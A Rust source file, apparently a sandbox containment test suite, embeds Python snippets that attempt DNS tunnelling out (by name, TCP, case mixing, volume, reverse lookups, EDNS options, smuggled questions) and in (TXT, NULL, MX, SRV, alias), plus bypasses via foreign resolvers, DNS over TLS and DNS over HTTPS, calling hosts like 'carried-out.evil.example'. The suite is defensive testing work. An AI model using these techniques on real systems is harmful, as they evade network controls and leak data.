//! Look-ups that carry something out or in, and other resolvers than the sandbox's own.

use super::{ALLOWED, Attempt, Policy, Success};

/// A type of record that carries what its owner likes.
macro_rules! kind {
    ($name:literal, $number:literal) => {
        Attempt::new(
            $name,
            "types",
            ALLOWED,
            concat!(
                "verdict(any(word in ask('in.tunnel.allowed.example', ",
                $number,
                ") for word in (MARK, b'there')))"
            ),
        )
    };
}

/// Another resolver, which anybody may ask where everything public may be reached.
macro_rules! other {
    ($name:literal, $script:literal) => {
        Attempt::new($name, "network_namespace", Policy::Public, $script)
    };
}

/// The same over TCP, where no rule names it.
macro_rules! stream {
    ($name:literal, $script:literal) => {
        Attempt::new($name, "rules", ALLOWED, $script)
    };
}

/// Thousands of names below an allowed one, each of which is news to its owner.
const VOLUME: &str = "
def one(start):
    for number in range(start, start + 250):
        ask(f'volume{number}.tunnel.allowed.example', 1)
threads = [threading.Thread(target=one, args=(start,)) for start in range(0, 2000, 250)]
for thread in threads: thread.start()
for thread in threads: thread.join()
verdict(False)";

const TWO: &str = "
second = question('second-question.evil.example', 1)[12:]
ask('allowed.example', 1, more=second)
verdict(False)";

const OVER_TCP: &str = "
with connect(resolver(), 53) as stream:
    verdict(MARK in ask_by_stream(stream, 'in.tunnel.allowed.example', 16))";

const OPTIONS: &str = "
option = b'\\xfd\\xe9\\0\\x0c' + b'option-leaks'
query = bytearray(question('options.tunnel.allowed.example', 1))
query[11] = 1
query += b'\\0\\0\\x29\\x04\\xd0\\0\\0\\0\\0' + struct.pack('!H', len(option)) + option
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.settimeout(SECONDS)
    sender.sendto(query, (resolver(), 53))
    sender.recv(4096)
verdict(False)";

#[rustfmt::skip]
pub(crate) const ATTEMPTS: &[Attempt] = &[
    Attempt::new("cannot_carry_out_by_a_name", "names", ALLOWED,
        "ask('carried-out.evil.example', 1)\nverdict(False)").when(Success::Asked("carried-out")),
    Attempt::new("cannot_carry_out_by_a_name_over_tcp", "names", ALLOWED,
        "with connect(resolver(), 53) as stream:\n    \
        ask_by_stream(stream, 'carried-by-tcp.evil.example', 1)\nverdict(False)")
        .when(Success::Asked("carried-by-tcp")),
    Attempt::new("cannot_carry_out_by_capitals", "questions", ALLOWED,
        "ask('CaRrIeD.tunnel.allowed.example', 1)\nverdict(False)")
        .when(Success::Asked("CaRrIeD")),
    Attempt::new("cannot_carry_out_by_volume", "rate", ALLOWED, VOLUME)
        .when(Success::AskedOften("volume", 1_000)),
    Attempt::new("cannot_carry_out_by_a_reverse_name", "questions", ALLOWED,
        "ask('9.8.7.6.carried-back.in-addr.arpa', 12)\nverdict(False)")
        .when(Success::Asked("carried-back")),
    Attempt::new("cannot_carry_out_by_options", "questions", ALLOWED, OPTIONS)
        .when(Success::Option("option-leaks")),
    Attempt::new("cannot_ask_two_questions", "questions", ALLOWED, TWO)
        .when(Success::Asked("second-question")),
    kind!("cannot_carry_in_by_txt", "16"),
    kind!("cannot_carry_in_by_null", "10"),
    kind!("cannot_carry_in_by_any", "255"),
    kind!("cannot_carry_in_by_mx", "15"),
    kind!("cannot_carry_in_by_srv", "33"),
    Attempt::new("cannot_carry_in_by_an_alias", "questions", ALLOWED,
        "verdict(b'there' in ask('in.chain.allowed.example', 1))"),
    Attempt::new("cannot_learn_keys_that_hide_names", "types", ALLOWED,
        "verdict(answers(ask('txt.allowed.example', 65)))"),
    Attempt::new("cannot_carry_in_by_txt_over_tcp", "types", ALLOWED, OVER_TCP),
    other!("cannot_ask_another_resolver",
        "verdict(MARK in ask('secret.evil.example', 16, FOREIGN_RESOLVER4))"),
    other!("cannot_ask_another_resolver6",
        "verdict(MARK in ask('secret.evil.example', 16, FOREIGN_RESOLVER6))"),
    other!("cannot_ask_the_hosts_resolver",
        "verdict(MARK in ask('secret.evil.example', 16, RESOLVER4))"),
    stream!("cannot_ask_another_resolver_over_tcp",
        "with connect(FOREIGN_RESOLVER4, 53) as stream:\n    \
        verdict(MARK in ask_by_stream(stream, 'secret.evil.example', 16))"),
    stream!("cannot_ask_another_resolver_over_tls",
        "with connect(FOREIGN_RESOLVER6, 853) as stream:\n    \
        with unverified().wrap_socket(stream) as inner:\n        \
        verdict(MARK in ask_by_stream(inner, 'secret.evil.example', 16))"),
    stream!("cannot_ask_another_resolver_over_https",
        "with connect(FOREIGN_RESOLVER4, 443) as stream:\n    \
        with unverified().wrap_socket(stream) as inner:\n        \
        inner.sendall(get('dns.google', '/dns-query'))\n        verdict(MARK in read(inner))"),
    stream!("cannot_ask_another_resolver_by_name",
        "with connect('dns.google', 443) as stream:\n    \
        with unverified().wrap_socket(stream, server_hostname='dns.google') as inner:\n        \
        inner.sendall(get('dns.google', '/dns-query'))\n        verdict(MARK in read(inner))"),
];
